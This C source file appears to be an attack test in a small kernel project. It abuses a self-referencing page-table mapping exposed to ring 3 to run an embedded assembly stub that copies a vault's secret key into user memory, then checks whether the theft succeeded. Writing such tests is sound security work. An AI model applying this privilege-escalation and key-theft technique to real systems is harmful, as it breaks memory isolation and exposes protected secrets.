/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Has the kernel make the top page table one of its own entries, for ring 3, in the upper half of
 * all addresses, and has the portion call code that lies in a page table: the processor needs these
 * in every view.
 */
#include "programs/vault/attack.h"

#include "abi/tables.h"

#define PAGE  4096
#define LARGE 0x200000

uint64_t key[VAULT_KEY_WORDS];

/* As a page table it has nothing: bit 0 of each word is clear. */
extern const uint8_t thief[];
__asm__(".pushsection .rodata\n"
        ".balign 4096\n"
        "thief:\n"
        "    nop\n"
        "    movl $vault_key, %esi\n"
        "    nop\n"
        "    nop\n"
        "    nop\n"
        "    movl $key, %edi\n"
        "    nop\n"
        "    nop\n"
        "    nop\n"
        "    movl $32, %ecx\n"
        "    nop\n"
        "    nop\n"
        "    nop\n"
        "    cld\n"
        "    rep movsb\n"
        "    xorl %eax, %eax\n"
        "    nop\n"
        "    nop\n"
        "    nop\n"
        "    ret\n"
        ".balign 4096, 0\n"
        ".popsection\n");

int main(int argc, char **argv)
{
    uint64_t signature = vault_sign(ATTACK_MESSAGE, 0);
    uint64_t at = TINY_UPPER + ATTACK_ELSEWHERE / LARGE * PAGE;

    (void)argc;
    tiny_call(TINY_CALL_TABLE, TINY_TABLE_UPPER, attack_frame_of(0, thief), ATTACK_ELSEWHERE, 0);
    vault_check(ATTACK_MESSAGE, signature, (int (*)(uint64_t))at);
    return attack_ends(argv[0], vault_is_key(key, ATTACK_MESSAGE, signature));
}
